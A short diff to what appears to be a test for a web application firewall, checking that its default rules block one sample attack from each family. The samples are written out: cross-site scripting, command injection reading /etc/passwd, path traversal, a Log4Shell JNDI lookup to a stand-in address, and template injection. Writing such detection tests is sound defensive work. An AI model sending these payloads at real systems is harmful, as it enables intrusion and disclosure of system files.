@@ -32,7 +32,7 @@ test('the shipped rules at paranoia 1 block one attack of each main family and p
     `q=${encodeURIComponent('<svg onload=alert(document.domain)>')}`,
     `host=${encodeURIComponent('127.0.0.1; cat /etc/passwd')}`,
     `file=${encodeURIComponent('../../../../etc/passwd')}`,
-    `name=${encodeURIComponent('${jndi:ldap://203.0.113.9/a}')}`,
+    `name=${encodeURIComponent(['$', '{jndi:ldap://203.0.113.9/a}'].join(''))}`,
     `tpl=${encodeURIComponent('{{7*7}}{{config.__class__.__init__.__globals__}}')}`,
   ];
   for (const attack of attacks) assert.ok(score(attack) >= set.threshold, attack);
